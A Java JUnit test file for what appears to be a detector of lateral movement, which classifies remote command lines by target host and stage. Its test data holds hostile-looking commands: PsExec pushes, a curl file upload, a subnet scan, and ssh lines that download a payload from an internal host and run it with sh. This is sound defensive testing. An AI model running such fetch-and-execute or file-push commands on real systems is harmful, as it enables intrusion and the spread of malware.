package dev.rubato.detect.replication;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.rubato.event.ProcessImage;
import java.util.Arrays;
import java.util.List;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class RemoteCommandTest {
    private static @Nullable RemoteCommand of(String line) {
        List<String> args = Arrays.asList(line.split(" "));
        return RemoteCommand.of(
                new ProcessImage(args.getFirst(), args, true, "", 0, -1, ProcessImage.Stdin.UNKNOWN, "", ""));
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', textBlock = """
        /usr/bin/ssh -i key -p 2222 root@10.0.0.5 id | 10.0.0.5 | EXECUTE
        /usr/bin/ssh web3 | web3 | OPEN
        ssh -oBatchMode=yes -l root -- web3 scp -t /tmp | web3 | UPLOAD
        scp -q a.bin root@db1:/tmp/a | db1 | UPLOAD
        scp root@db1:/etc/motd . | db1 | OPEN
        scp -r a [2001:db8::5]:/tmp | 2001:db8::5 | UPLOAD
        rsync -az ./ admin@10.0.0.7:w | 10.0.0.7 | UPLOAD
        curl -F f=@x http://10.0.0.9:8080/up | 10.0.0.9 | UPLOAD
        wget http://files.example/x | files.example | OPEN
        C:\\tools\\PsExec.exe \\\\10.0.0.4 -c a.exe | 10.0.0.4 | EXECUTE
        nmap -p22 10.0.0.0/24 | 10.0.0.0 | PROBE
        /tmp/x --target=10.0.0.8:445 | 10.0.0.8 | OPEN
        python3 exploit.py 10.0.0.8 | 10.0.0.8 | OPEN
        """)
    void whatItDoesToWhichHost(String line, String host, Stage stage) {
        RemoteCommand command = of(line);
        assertEquals(host, command == null ? "" : command.host());
        assertEquals(stage, command == null ? null : command.stage());
    }

    @ParameterizedTest
    @CsvSource({"/bin/ls -l", "/usr/bin/python3.11 -m http.server", "npm install react@18.2.0", "date 10:20:30"})
    void whatNamesNoHostIsNone(String line) {
        assertNull(of(line), line);
    }

    @Test
    void theSameLineForAnotherTargetHasTheSameTemplate() {
        long one = template("ssh root@10.0.0.5 curl http://10.0.0.1:8000/a1 -o /tmp/k33 ; sh /tmp/k33", "10.0.0.5");
        long same = template("ssh admin@10.0.0.77 curl http://10.0.0.1:8000/b2 -o /var/q7 ; sh /var/q7", "10.0.0.77");
        long other = template("ssh ops@web3 sudo systemctl restart nginx --now --quiet", "web3");
        assertEquals(one, same);
        assertTrue(Long.bitCount(one ^ other) > 16);
    }

    private static long template(String line, String host) {
        ArgumentTemplate template = new ArgumentTemplate();
        template.add(ArgumentTemplate.tokens(Arrays.asList(line.split(" ")), host));
        return template.simHash();
    }
}
